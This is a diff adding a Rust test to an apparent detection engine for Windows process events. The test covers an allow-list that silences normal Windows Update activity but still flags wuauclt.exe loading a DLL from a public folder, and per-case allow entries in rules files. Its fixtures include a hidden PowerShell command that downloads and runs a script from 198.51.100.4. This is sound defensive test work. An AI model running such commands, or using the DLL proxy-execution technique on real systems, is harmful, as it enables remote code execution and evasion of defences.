@@ -1649,3 +1649,87 @@ fn know_normal_rules_judge_parents_directories_and_servers() {
         }
     }
 }
+
+/// The known-benign list silences Windows Update's own use of a proxy-execution switch, not
+/// the abuse of it; `--rules` files may add entries, refused loudly when they name no rule or
+/// no condition; silenced findings are counted.
+#[test]
+fn the_known_benign_list_silences_normal_activity_and_counts_it() {
+    let e = EvidenceRef::new("records/execution_events.jsonl", 1);
+    let wu = |cmd: &str| {
+        Observation::new(ObservationKind::ProcessEvent, e.clone())
+            .image(Some(r"C:\Windows\System32\wuauclt.exe"))
+            .parent_image(Some(r"C:\Windows\System32\svchost.exe"))
+            .command_line(Some(cmd))
+    };
+    let normal = wu(
+        r#""C:\Windows\system32\wuauclt.exe" /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId 3a3f4b2c-0000-0000-0000-000000000000 /RunHandlerComServer"#,
+    );
+    let abuse = wu(
+        r#"wuauclt.exe /UpdateDeploymentProvider C:\Users\Public\evil.dll /RunHandlerComServer"#,
+    );
+    let f = findings_for(&[normal]);
+    assert!(
+        !rule_ids(&f).contains(&"lolbin-proxy-execution"),
+        "{:?}",
+        rule_ids(&f)
+    );
+    assert_eq!(
+        f.allowed.get("windows-update-deployment-provider"),
+        Some(&1)
+    );
+    let f = findings_for(&[abuse]);
+    assert!(
+        rule_ids(&f).contains(&"lolbin-proxy-execution"),
+        "{:?}",
+        rule_ids(&f)
+    );
+    assert!(f.allowed.is_empty());
+
+    // A case's own entry, in a --rules file.
+    let own = r#"
+[[allow]]
+id = "backup-agent"
+why = "The backup agent's nightly PowerShell, checked with its vendor."
+rules = ["ps-*"]
+image = ['\\powershell\.exe$']
+parent_image = ['\\backupagent\.exe$']
+"#;
+    let engine = Engine::with_extra_rules(&[("case.toml".into(), own.into())]).unwrap();
+    assert_eq!(engine.allows().len(), 2);
+    let ps = Observation::new(ObservationKind::ProcessEvent, e.clone())
+        .image(Some(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"))
+        .parent_image(Some(r"C:\Program Files\Backup\backupagent.exe"))
+        .command_line(Some("powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a')"));
+    let loud = Engine::builtin().unwrap().run(std::slice::from_ref(&ps));
+    let quiet = engine.run(&[ps]);
+    let ps_rules = |f: &Findings| f.iter().filter(|x| x.rule_id.starts_with("ps-")).count();
+    assert!(ps_rules(&loud) > 0);
+    assert_eq!(ps_rules(&quiet), 0);
+    assert!(quiet.allowed["backup-agent"] >= 1);
+
+    for (bad, why) in [
+        (
+            "[[allow]]\nid = \"x\"\nwhy = \"y\"\nrules = [\"no-such-rule\"]\nimage = ['a']\n",
+            "no rule has the id",
+        ),
+        (
+            "[[allow]]\nid = \"x\"\nwhy = \"y\"\nrules = [\"lolbin-proxy-execution\"]\n",
+            "at least one of",
+        ),
+        (
+            "[[allow]]\nid = \"x\"\nwhy = \"y\"\nrules = [\"*\"]\nimage = ['a']\n",
+            "rules must name",
+        ),
+        (
+            "[[allow]]\nid = \"x\"\nwhy = \"y\"\nrules = [\"lolbin-proxy-execution\"]\nimage = ['(']\n",
+            "bad regex",
+        ),
+    ] {
+        let err = Engine::with_extra_rules(&[("case.toml".into(), bad.into())])
+            .err()
+            .unwrap_or_else(|| panic!("accepted: {bad}"));
+        let msg = err.to_string();
+        assert!(msg.contains(why) && msg.starts_with("case.toml:"), "{msg}");
+    }
+}
